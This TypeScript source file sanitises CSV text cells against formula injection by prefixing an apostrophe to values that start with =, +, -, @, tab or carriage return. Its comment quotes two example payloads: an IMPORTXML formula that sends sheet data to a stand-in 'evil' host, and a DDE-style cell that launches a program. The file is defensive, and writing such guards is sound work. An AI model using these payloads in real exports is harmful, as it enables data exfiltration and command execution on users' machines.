/**
 * CSV injection (issue #35, OWASP 'CSV Injection'): a spreadsheet runs a cell that starts with
 * '=', '+', '-' or '@' as a formula (`=IMPORTXML(CONCAT("http://evil/?",A2),"//a")` sends the
 * sheet away; `+cmd|' /C calc'!A0` starts a program), and a leading tab or carriage return
 * hides such a start from a naive check. A text cell that starts with one of them is written with
 * a leading apostrophe, which spreadsheets show as text and do not evaluate. Numbers are the
 * portal's own (a negative one is a number, not a formula) and are written as they are.
 * Every CSV the portal writes passes its text cells through this (docs/decisions/0055).
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutraliseCsvText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
